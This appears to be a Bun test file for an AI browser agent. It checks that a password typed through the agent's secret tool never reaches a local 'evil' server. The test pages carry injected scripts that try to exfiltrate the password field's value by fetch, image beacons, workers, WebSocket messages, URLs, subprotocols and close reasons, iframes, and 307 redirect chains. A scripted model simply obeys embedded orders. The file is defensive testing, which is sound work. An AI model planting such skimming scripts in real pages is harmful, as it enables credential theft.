import { afterAll, afterEach, beforeAll, expect, test } from "bun:test";
import type { ScriptedModel } from "manyhands/internal/testing/models/scripted-model";
import { type AttackedAgent, startAttackedAgent } from "./attacked-agent.ts";
import { order, startObeyingModel } from "./orders.ts";

const password = "pw-51d0aa37-open";
const received: string[] = [];

let model: ScriptedModel;
let evil: ReturnType<typeof startEvil>;
let shop: ReturnType<typeof startShop>;
let agent: AttackedAgent;

/**
 * Keeps all that reaches it: addresses, bodies, messages, what a socket asks for and how it ends.
 */
function startEvil() {
  return Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    websocket: {
      message: (_, message) => void received.push(String(message)),
      close: (_, __, reason) => void received.push(reason),
    },
    async fetch(request, server) {
      received.push(request.url, await request.text(), request.headers.get("sec-websocket-protocol") ?? "");
      if (server.upgrade(request)) return undefined;
      const headers = {
        "access-control-allow-origin": "*",
        "access-control-allow-headers": "*",
        "content-type": "text/html",
      };
      return new Response("<h1>Thank you</h1>", { headers });
    },
  });
}

const field = "<label>Password <input type=password name=word id=p></label>";
const sends = (script: string) => `${field}<script>p.oninput = () => { const v = p.value; ${script} }</script>`;
const form = (attributes: string) => `<form method=post ${attributes}>${field}</form>`;

/** Pages of the password's own site that somebody else wrote a part of. */
const pages = (evil: string): Readonly<Record<string, string>> => ({
  "/form": form("action=/hop"),
  "/get": `<form action=/hop>${field}</form>`,
  "/tab": form("action=/hop target=_blank"),
  "/frame": `<iframe name=f src="${evil.replace("127.0.0.1", "localhost")}/frame"></iframe>${form("action=/hop target=f")}`,
  "/fetch": sends(`fetch("/hop", { method: "POST", body: v })`),
  "/image": sends(`new Image().src = "/hop?q=" + v`),
  "/worker": sends(
    `new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/hop', { method: 'POST', body: '" + v + "' })"])))`,
  ),
  "/socket": sends(`const s = new WebSocket("${evil.replace("http", "ws")}"); s.onopen = () => s.send(v)`),
  "/frame-socket": sends(
    `const i = document.createElement("iframe"); document.body.append(i);
     const s = new i.contentWindow.WebSocket("${evil.replace("http", "ws")}"); s.onopen = () => s.send(v)`,
  ),
  "/held-socket": `<script>const s = new WebSocket("${evil.replace("http", "ws")}"), W = WebSocket</script>${sends("s.send(v)")}`,
  "/socket-address": sends(`new WebSocket("${evil.replace("http", "ws")}/?q=" + v)`),
  "/socket-protocol": sends(`new WebSocket("${evil.replace("http", "ws")}", [v])`),
  "/socket-end": `<script>const s = new WebSocket("${evil.replace("http", "ws")}")</script>${sends("s.close(4000, v)")}`,
});

/** Redirects whatever comes to `/hop` to the attacker, with its body and its query. */
function startShop() {
  return Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch(request) {
      const { pathname, search } = new URL(request.url);
      const to = { "/hop": `/out${search}`, "/out": `${evil.url.origin}/got${search}`, "/moved": "/in" }[pathname];
      if (to !== undefined)
        return new Response(null, { status: 307, headers: { location: to, "access-control-allow-origin": "*" } });
      const body =
        pathname === "/moves" ? form("action=/moved") : (pages(evil.url.origin)[pathname] ?? "<h1>Welcome in</h1>");
      return new Response(body, { headers: { "content-type": "text/html" } });
    },
  });
}

beforeAll(async () => {
  model = await startObeyingModel(/nothing/);
  evil = startEvil();
  shop = startShop();
  const hosts = [evil.url.host, shop.url.host, evil.url.host.replace("127.0.0.1", "localhost")];
  agent = await startAttackedAgent("browser", model, {
    MANYHANDS_EGRESS_ALLOW: hosts.join(","),
    SHOP_PASSWORD: password,
    MANYHANDS_SECRETS_SHOP_PASSWORD_ENV: "SHOP_PASSWORD",
    MANYHANDS_SECRETS_SHOP_PASSWORD_SITES: shop.url.origin,
  });
}, 120_000);
afterAll(async () => {
  await agent[Symbol.asyncDispose]();
  await model.close();
  await Promise.all([evil.stop(true), shop.stop(true)]);
});
afterEach(() => {
  received.splice(0);
});

const submit = async (path: string) => {
  const type = { ref: '@textbox "Password"', secret: "shop_password", submit: true };
  const orders = [
    order("browser_go_to_url", { url: `${shop.url.origin}${path}` }),
    order("browser_type_secret", type),
    order("browser_wait", { seconds: 1 }),
  ];
  await agent.task([{ text: `BEGIN Log in at ${shop.url.origin}/ and ${evil.url.origin} ${orders.join(" ")}` }], {
    contextId: `at-${path.slice(1)}`,
  });
  return JSON.stringify(model.requests.at(-1)?.body.messages);
};

test.each(Object.keys(pages("")))(
  "a password that was typed on its site does not leave it by a redirect or a socket: %s",
  async (path) => {
    const told = await submit(path);
    expect(told).toContain("Typed the secret shop_password");
    expect(received.join("\n")).not.toContain(password);
    expect(told).toContain("held the secret shop_password");
  },
  120_000,
);

test("a redirect within the site keeps what it is sent", async () => {
  expect(await submit("/moves")).toContain("Welcome in");
}, 120_000);
